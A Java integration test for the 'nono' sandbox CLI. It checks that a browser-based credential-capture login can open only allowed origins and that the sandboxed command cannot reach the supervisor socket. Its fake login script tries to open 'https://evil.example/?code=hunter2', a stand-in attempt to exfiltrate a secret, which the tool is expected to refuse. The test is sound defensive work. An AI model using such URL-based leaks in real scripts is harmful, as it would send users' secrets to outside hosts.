package dev.nono.cli.it;

import static dev.nono.cli.it.Cli.nono;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("A command behind the proxy whose credential comes from a login in the browser")
@EnabledOnOs(OS.LINUX)
class CaptureBrowserIT {
    @TempDir
    Path temp;

    private static void script(Path file, String body) throws Exception {
        Files.writeString(file, "#!/bin/sh\n" + body);
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rwxr-xr-x"));
    }

    /** Answers one request on each connection, and keeps its credential. */
    private static void serve(ServerSocket upstream, List<String> credentials) {
        while (!upstream.isClosed()) {
            try (Socket client = upstream.accept()) {
                BufferedReader in =
                        new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.ISO_8859_1));
                for (String line = in.readLine(); line != null && !line.isEmpty(); line = in.readLine()) {
                    if (line.toLowerCase(Locale.ROOT).startsWith("authorization: ")) {
                        credentials.add(line.substring("authorization: ".length()));
                    }
                }
                client.getOutputStream()
                        .write("HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n"
                                .getBytes(StandardCharsets.US_ASCII));
                client.getOutputStream().flush();
            } catch (IOException e) {
                // The test has ended, or the client went away.
                continue;
            }
        }
    }

    @Test
    @DisplayName("gets its answer after the page was opened, and cannot reach what opens pages")
    void login() throws Exception {
        Path directory = temp.toRealPath();
        Path programs = Files.createDirectory(directory.resolve("bin"));
        Path granted = Files.createDirectory(directory.resolve("work"));
        Path opened = directory.resolve("opened");
        script(programs.resolve("xdg-open"), "printf '%s' \"$1\" > '" + opened + "'\n");
        // The login waits until the command has tried the socket that is there meanwhile.
        script(programs.resolve("login"), """
                "$BROWSER" 'https://github.com/login' || exit 3
                "$BROWSER" 'https://evil.example/?code=hunter2' && exit 4
                echo "$NONO_SUPERVISOR_PATH" > '%1$s/.socket' && mv '%1$s/.socket' '%1$s/socket'
                i=0; while [ ! -e '%1$s/tried' ] && [ $i -lt 1000 ]; do sleep 0.1; i=$((i+1)); done
                echo s3cret
                """.formatted(granted));
        List<String> credentials = new CopyOnWriteArrayList<>();
        try (ServerSocket upstream = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread server = new Thread(() -> serve(upstream, credentials), "upstream");
            server.setDaemon(true);
            server.start();
            Path profile = Files.writeString(
                    directory.resolve("login.json"), """
                    {"network": {"credentials": ["svc"], "custom_credentials": {"svc": {
                       "upstream": "http://127.0.0.1:%d", "credential_key": "cmd://login", "env_var": "SVC_KEY"}}},
                     "credential_capture": {"login": {"command": ["%s/login"], "timeout_secs": 240,
                       "interaction": {"open_urls": {"allow_origins": ["https://github.com"]}}}}}
                    """.formatted(upstream.getLocalPort(), programs));
            nono("run", "--allow", granted.toString(), "--profile", profile.toString(), "--", "bash", "-c", """
                            curl -sS -o /dev/null -w '%{http_code}' --max-time 240 --noproxy '' -H "Authorization: Bearer $SVC_KEY" \
                              "$SVC_BASE_URL/x" > code &
                            i=0; while [ ! -e socket ] && [ $i -lt 1000 ]; do sleep 0.1; i=$((i+1)); done
                            curl -s --max-time 5 --noproxy '*' --unix-socket "$(cat socket)" http://x/; echo "connect $?"
                            ls "$(dirname "$(cat socket)")" > /dev/null 2>&1 && echo listed
                            touch tried; wait; cat code
                            """)
                    .in(granted)
                    .with("PATH", programs + ":" + System.getenv("PATH"))
                    .with("XDG_STATE_HOME", directory.resolve("state").toString())
                    .run()
                    .exits(0)
                    // curl could not connect.
                    .prints("connect 7\n204")
                    .says(
                            "nono: the credential capture login opened a page of https://github.com in the browser",
                            "nono: the credential capture login wanted to open https://evil.example, which was refused")
                    .says("allow_origins");
        }
        // Nobody waits for what opens pages, nor is it ended: it writes when its turn comes.
        for (int i = 0; i < 2400 && (Files.notExists(opened) || Files.size(opened) == 0); i++) {
            Thread.sleep(50);
        }
        assertThat(opened).hasContent("https://github.com/login");
        assertThat(credentials).containsExactly("Bearer s3cret");
    }
}
